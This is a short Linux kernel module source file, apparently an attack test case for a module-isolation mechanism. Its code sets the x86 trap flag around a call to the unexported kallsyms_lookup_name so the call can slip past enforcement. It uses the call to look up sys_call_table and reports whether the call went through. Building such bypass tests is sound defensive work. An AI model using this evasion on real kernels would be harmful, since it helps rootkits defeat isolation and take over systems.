// SPDX-License-Identifier: GPL-2.0
/*
 * Attack: carry a call past its judgement on the back of an event. With the
 * trap flag set, the call to kallsyms_lookup_name (not exported, so a call
 * an isolated module may not make) traps right after it, before the target's
 * first instruction is fetched: the fetch is where the call would be judged.
 * Were the trap delivered there, the kernel's #DB handler would clear the
 * flag and return to the target in the kernel's view, unjudged.
 */
#include <linux/module.h>
#include "alias.h"

static unsigned long kln;
module_param(kln, ulong, 0400);

static noinline unsigned long call_with_trap_flag(unsigned long fn, const char *name)
{
	unsigned long ret;

	asm volatile("pushfq\n\t"
		     "orq $0x100, (%%rsp)\n\t"
		     "popfq\n\t"
		     "call *%[fn]\n\t"
		     : "=a"(ret), "+D"(name), [fn] "+r"(fn)
		     :
		     : "rcx", "rdx", "rsi", "r8", "r9", "r10", "r11", "memory", "cc");
	return ret;
}

static int __init atk_init(void)
{
	unsigned long table;

	if (!kln)
		return -EINVAL;
	table = call_with_trap_flag(kln, "sys_call_table");
	report("call under the trap flag %s (%s)", table ? "WENT THROUGH" : "blocked",
	       table ? "an address" : "0");
	return -EACCES;
}
module_init(atk_init);
MODULE_LICENSE("GPL");
